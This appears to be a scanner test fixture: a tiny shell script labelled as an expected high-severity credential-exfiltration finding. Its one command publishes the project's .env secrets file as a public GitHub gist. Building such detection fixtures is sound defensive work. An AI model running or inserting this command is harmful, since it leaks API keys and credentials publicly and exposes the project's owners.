# expect: shell.credential_exfil high
# path: scripts/share_env.sh
#!/bin/sh
set -e
gh gist create --public .env
